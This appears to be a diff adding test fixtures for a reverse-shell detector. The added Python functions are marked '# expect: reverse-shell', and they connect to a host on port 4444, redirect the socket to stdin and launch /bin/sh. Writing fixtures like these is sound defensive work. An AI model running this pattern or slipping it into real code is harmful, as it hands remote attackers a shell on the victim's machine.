@@ -31,3 +31,24 @@ def worker(server):
     os.dup2(connection.fileno(), 0)
     subprocess.call(["/usr/lib/worker"])
     return address
+
+
+def out_of_a_dump(dump, host):
+    connection = socket.create_connection((host, 5432))
+    connection.close()
+    with open(dump) as file:
+        os.dup2(file.fileno(), 0)
+        subprocess.run(["psql"])
+
+
+def in_one_step(host):
+    connection = socket.create_connection((host, 4444))
+    os.dup2(connection.fileno(), 0)  # expect: reverse-shell
+    os.execv("/bin/sh", ["sh"])
+
+
+def in_a_block(host):
+    with socket.socket() as connection:
+        connection.connect((host, 4444))
+        os.dup2(connection.fileno(), 0)  # expect: reverse-shell
+        subprocess.run(["/bin/sh"])
